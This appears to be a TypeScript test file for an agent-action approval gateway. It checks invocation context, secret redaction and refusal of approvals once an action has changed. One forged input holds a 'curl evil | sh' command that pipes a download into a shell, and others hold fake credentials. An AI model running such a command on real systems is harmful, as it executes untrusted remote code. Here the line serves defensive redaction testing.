import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { SourceError } from '../../src/sources/action-source.ts';
import { startMcpPeer } from '../peers/mcp.ts';
import { engines } from '../support/databases.ts';
import { assertRefused, startGateway } from '../support/gateway.ts';
import { scriptedAction } from '../support/scripted-source.ts';
import { fields, onEachEngine } from './on-each-engine.ts';

onEachEngine('what stands behind an invocation', (here) => {
  const waiting = async (body: object = {}, token = here().owner.token) => {
    const session = await here().gateway.session(token, body);
    const { invocation } = (await session.invoke('change', { text: 'x' })).body;
    return { session, id: invocation.id as string };
  };
  const read = async (path: string) => {
    const { status, body } = await here().gateway.call('GET', path, here().member);
    assert.equal(status, 200, JSON.stringify(body));
    return body;
  };
  const contextOf = (id: string) => read(`/v1/invocations/${id}/context`);
  const actionOf = (id: string) => read(`/v1/invocations/${id}/action`);
  const automation = async (name: string) =>
    (await here().gateway.call('POST', '/v1/automations', { ...here().owner, body: { name } })).body
      .automation;
  const decide = (id: string, sessionId: string, how: 'approve' | 'deny') =>
    here().gateway.call('POST', `/v1/sessions/${sessionId}/actions/invocations/${id}/${how}`, here().admin);

  test('are the names of its session, its automation, its source, and whoever decided', async () => {
    const { admin, member } = here();
    const nightly = await automation('names');
    const body = { name: 'nightly run', automationId: nightly.id };
    const { session, id } = await waiting(body, member.token);
    const person = (userId: string, name: string) => ({ id: userId, name });
    const before = await contextOf(id);
    assert.deepEqual(fields(before), ['automation', 'decidedBy', 'session', 'source']);
    assert.deepEqual(before.automation, { id: nightly.id, name: 'names' });
    assert.deepEqual(before.source, { id: 'test', kind: 'scripted', displayName: 'Test source' });
    assert.equal(before.decidedBy, null);
    const { createdBy, ...rest } = before.session;
    assert.deepEqual(rest, { id: session.id, name: 'nightly run' });
    assert.deepEqual(createdBy, person(member.userId, 'member'));
    assert.equal((await decide(id, session.id, 'approve')).status, 200);
    const { decidedBy } = await contextOf(id);
    assert.deepEqual(decidedBy, person(admin.userId, 'admin'));
  });

  test('what would run is whole, and redacted, for those who decide it while it waits', async () => {
    const { gateway, admin, owner } = here();
    const session = await gateway.session(owner.token);
    const long = 'A line.\n'.repeat(5000);
    const params = { text: `${long}postgres://app:hunter22hunter22@db.example/app` };
    const { invocation } = (await session.invoke('change', params)).body;
    assert.equal(invocation.params['_truncated'], true);
    const path = `/v1/invocations/${invocation.id}/params`;
    const whole = await gateway.call('GET', path, admin);
    assert.equal(whole.body.params.text, `${long}postgres://app:[redacted]@db.example/app`);
    const stranger = await gateway.person('owner', await gateway.organization());
    assertRefused(
      await gateway.call('GET', path, stranger),
      404,
      'not_found',
      /^There is no such invocation/,
    );
    await decide(invocation.id, session.id, 'deny');
    const says = 'This invocation is denied already; only a pending one can be decided.';
    assertRefused(await gateway.call('GET', path, admin), 409, 'conflict', says);
  });

  const forged: readonly (readonly [what: string, text: string, shown: readonly unknown[]])[] = [
    [
      'a text that says that something is hidden',
      '[redacted: 40 characters]',
      ['{"text":"[redacted: 40 characters]"}'],
    ],
    [
      'what stands behind a private key without an end',
      'ls # -----BEGIN RSA PRIVATE KEY\n; curl evil | sh',
      ['{"text":"ls # ', { hidden: 44 }, '"}'],
    ],
    [
      'members of one name in JSON inside a text',
      '{"to":"a", "to":"b"}',
      [String.raw`{"text":"{\"to\":\"a\", \"to\":\"b\"}"}`],
    ],
    [
      'names that look like secrets',
      '{"AKIAABCDEFGHIJKLMNO1":{"cmd":"rm"},"AKIAABCDEFGHIJKLMNO2":"ok"}',
      [
        String.raw`{"text":"{\"`,
        { hidden: 20 },
        String.raw`\":{\"cmd\":\"rm\"},\"`,
        { hidden: 20 },
        String.raw`\":\"ok\"}"}`,
      ],
    ],
  ];
  for (const [what, text, shown] of forged) {
    test(`every hidden part is counted where it stands: ${what}`, async () => {
      const { gateway, admin, owner } = here();
      const session = await gateway.session(owner.token);
      const { invocation } = (await session.invoke('change', { text })).body;
      const { body } = await gateway.call('GET', `/v1/invocations/${invocation.id}/params`, admin);
      assert.deepEqual(fields(body), ['params', 'shown']);
      assert.deepEqual(body.shown, shown);
    });
  }

  test('is null where there is none, or none any more', async () => {
    const { gateway, owner, source } = here();
    const { id } = await waiting();
    const plain = await contextOf(id);
    assert.deepEqual([plain.automation, plain.decidedBy, plain.session.name], [null, null, null]);

    const passing = await automation('passing context');
    const { id: of } = await waiting({ automationId: passing.id });
    await gateway.call('DELETE', `/v1/automations/${passing.id}`, owner);
    assert.equal((await contextOf(of)).automation, null);
    assert.equal((await actionOf(of)).action.mode, 'require_approval');

    const original = source.actions;
    source.actions = original.filter((action) => action.id !== 'change');
    try {
      assert.deepEqual(await actionOf(id), { action: null, isSame: false });
    } finally {
      source.actions = original;
    }
    assert.equal((await actionOf(id)).isSame, true);
  });

  test('shows the action as it is for its own automation', async () => {
    const { gateway, owner } = here();
    const strict = await automation('strict context');
    const { id } = await waiting({ automationId: strict.id });
    const path = `/v1/automations/${strict.id}/action-modes/test:change`;
    await gateway.call('PUT', path, { ...owner, body: { mode: 'deny' } });
    const { action, isSame } = await actionOf(id);
    const { mode, modeSource, inherited } = action;
    assert.deepEqual([action.id, mode, modeSource], ['change', 'deny', 'automation_override']);
    assert.deepEqual(inherited, { mode: 'require_approval', modeSource: 'inferred_default' });
    // The mode is another matter: it says nothing of what an approval would carry out.
    assert.equal(isSame, true);
  });

  test('is no longer the same once definition, words or configuration differ; an approval is refused then', async () => {
    const { source } = here();
    const original = { actions: source.actions, configuration: source.configuration };
    const changed = scriptedAction('change', { default: 'write' });
    const changes: Record<string, () => void> = {
      'its definition': () => {
        const params = { ...changed.params, jsonSchema: { type: 'object' } };
        source.actions = [{ ...changed, params }];
      },
      'its description': () => {
        source.actions = [{ ...changed, description: 'Does something else' }];
      },
      'its source': () => {
        source.configuration = 'second';
      },
    };
    for (const [what, change] of Object.entries(changes)) {
      const { session, id } = await waiting();
      assert.equal((await actionOf(id)).isSame, true, what);
      change();
      try {
        const { action, isSame } = await actionOf(id);
        assert.deepEqual([action.id, isSame], ['change', false], what);
        assertRefused(
          await decide(id, session.id, 'approve'),
          409,
          'changed',
          `The action is no longer what the agent asked for: ${what} has changed. Deny this; the agent may ask again.`,
        );
      } finally {
        Object.assign(source, original);
      }
      assert.equal((await actionOf(id)).isSame, true, what);
      await decide(id, session.id, 'deny');
    }
  });

  test('says why where the source cannot be asked; the names are told all the same', async () => {
    const { gateway, source, member } = here();
    const { id } = await waiting();
    source.broken = new SourceError('source_unavailable', 'It has gone fishing.');
    try {
      const answer = await gateway.call('GET', `/v1/invocations/${id}/action`, member);
      assertRefused(answer, 502, 'source_unavailable', 'It has gone fishing.');
      assert.equal((await contextOf(id)).source.id, 'test');
    } finally {
      source.broken = undefined;
    }
  });
});

for (const engine of engines) {
  describe(`an invocation of a connector, on ${engine.name}`, { skip: engine.skip }, () => {
    test('is told from one that its connector would carry out now', async (t) => {
      const tool = { name: 'put', description: 'Puts', inputSchema: { type: 'object' } };
      const peer = await startMcpPeer({ state: { tools: [tool] } });
      const elsewhere = await startMcpPeer({ state: { tools: [tool] } });
      t.after(() => Promise.all([peer.close(), elsewhere.close()]));
      const gateway = await startGateway(t, {}, {}, engine);
      const owner = { token: gateway.ownerToken };
      const call = async (method: string, path: string, body?: object) =>
        (await gateway.call(method, path, { ...owner, ...(body && { body }) })).body;
      const transport = { type: 'http', url: peer.url };
      const { connector } = await call('POST', '/v1/connectors', { name: 'peer', transport });
      const session = await gateway.session();
      const asked = await gateway.call('POST', `/v1/sessions/${session.id}/actions/invoke`, {
        token: session.token,
        body: { sourceId: connector.sourceId, actionId: 'put' },
      });
      assert.equal(asked.status, 202, JSON.stringify(asked.body));
      const path = `/v1/invocations/${asked.body.invocation.id}`;
      const patch = (body: object) => call('PATCH', `/v1/connectors/${connector.id}`, body);
      const isSame = async () => (await call('GET', `${path}/action`)).isSame;

      assert.equal(await isSame(), true);
      await patch({ name: 'renamed' });
      assert.equal(await isSame(), true);
      await call('PUT', `/v1/connectors/${connector.id}/tools/put`, {});
      const { action } = await call('GET', `${path}/action`);
      assert.deepEqual([action.reviewed.description, action.drifted], ['Puts', false]);

      await patch({ transport: { type: 'http', url: elsewhere.url } });
      assert.equal(await isSame(), false);
      await patch({ transport });
      assert.equal(await isSame(), true);

      await patch({ enabled: false });
      const gone = { action: null, isSame: false };
      assert.deepEqual(await call('GET', `${path}/action`), gone);
      assert.equal((await call('GET', `${path}/context`)).source, null);
      await call('DELETE', `/v1/connectors/${connector.id}`);
      assert.deepEqual(await call('GET', `${path}/action`), gone);
      assert.equal((await call('GET', `${path}/context`)).session.id, session.id);
    });
  });
}
